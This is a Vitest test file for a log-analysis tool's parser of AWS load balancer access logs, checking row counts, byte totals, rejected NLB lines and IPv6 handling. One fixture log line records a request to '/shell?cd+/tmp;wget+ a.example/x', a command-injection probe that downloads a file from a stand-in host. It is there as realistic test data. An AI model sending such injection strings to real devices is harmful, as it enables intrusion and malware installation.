import { describe, expect, it } from 'vitest';
import { corpusFile } from '../../../../testing/corpusFile';
import { transferTally } from '../../../../testing/logs/testkit';
import { sqlOn } from '../../../../testing/sqlOn';
import { withTempCase, writeInput } from '../../../../testing/withTempCase';

// The corpus figures were counted by hand from the file (see aws_elb_access_log/SOURCE.md), not taken from Breachdesk.

describe('AWS load balancer access logs', () => {
  it('loads the 14 ALB and Classic entries (156,925 bytes sent, 2 clients) and rejects the 2 NLB TLS lines, naming them', async () => {
    await withTempCase(async (engine) => {
      const file = corpusFile('aws_elb_access_log', 'aws_elb_access.log');
      expect((await engine.service.detectSource({ path: file, kind: 'transfer' })).format).toBe('elb-access-log');
      await expect(engine.service.addSource({ path: file, kind: 'transfer', maxRejectShare: 0 })).rejects.toThrow(
        /aws_elb_access\.log line 15: a Network Load Balancer TLS log line, which holds no request/,
      );
      const s = await engine.service.addSource({ path: file, kind: 'transfer' });
      expect(s).toMatchObject({ rowsLoaded: 14, rowsRejected: 2 });
      expect(await transferTally(engine, s.id)).toEqual({ rows: 14, bytes: 156925, noBytes: 0, users: 2 });
      const rows = await sqlOn<{ t: string; u: string; a: string | null; o: string | null; b: number }>(
        engine,
        `SELECT strftime(ts, '%Y-%m-%d %H:%M:%S') AS t, "user" AS u, action AS a, object AS o, bytes::INTEGER AS b FROM transfer WHERE source_id = $sourceId ORDER BY raw_ref`,
        { sourceId: s.id },
      );
      expect(rows[0]).toEqual({ t: '2020-01-11 16:55:20', u: '192.168.1.10', a: 'GET 200', o: 'www.domain.name/', b: 107999 });
      expect(rows[10]).toEqual({ t: '2021-05-13 23:39:43', u: '192.168.131.39', a: 'GET 200', o: 'www.example.com/', b: 29 });
      expect(rows[13]).toEqual({ t: '2021-05-13 23:39:46', u: '192.168.131.39', a: null, o: null, b: 0 });
    });
  });

  it('keeps a request with spaces in its URI, drops the port of an IPv6 client, and leaves a Combined log to its own loader', async () => {
    await withTempCase(async (engine, { work }) => {
      const alb = writeInput(
        work,
        'alb.log',
        'http 2022-05-12T06:41:29.051646Z app/admin/3011821a43ee0c5e 203.0.113.20:41542 - -1 -1 -1 301 - 233 390 "GET http://198.51.100.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1" "Hello, world" - - - "Root=1-627cac19" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "-" "-" "-" "-" "-" "-"\n',
      );
      const s = await engine.service.addSource({ path: alb, kind: 'transfer' });
      expect(s).toMatchObject({ format: 'elb-access-log', rowsLoaded: 1, rowsRejected: 0 });
      const v6 = writeInput(
        work,
        'alb-v6.log',
        'h2 2024-05-01T10:00:00.000000Z app/web/50dc6c495c0c9188 2001:db8:1f14::a36e:59180 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET https://www.example.com:443/ HTTP/2.0" "curl/8" - - - "Root=1" "-" "-" 0 2024-05-01T10:00:00.000000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"\n',
      );
      const t = await engine.service.addSource({ path: v6, kind: 'transfer' });
      const [row] = await sqlOn<{ u: string; ip: string }>(engine, `SELECT "user" AS u, ip FROM transfer WHERE source_id = $sourceId`, { sourceId: t.id });
      expect(row).toEqual({ u: '2001:db8:1f14::a36e', ip: '2001:db8:1f14::a36e' });
      const combined = writeInput(work, 'access.log', '203.0.113.5 - - [01/Mar/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 12 "-" "curl/8"\n');
      expect((await engine.service.detectSource({ path: combined, kind: 'transfer' })).format).toBe('combined-access-log');
    });
  });
});
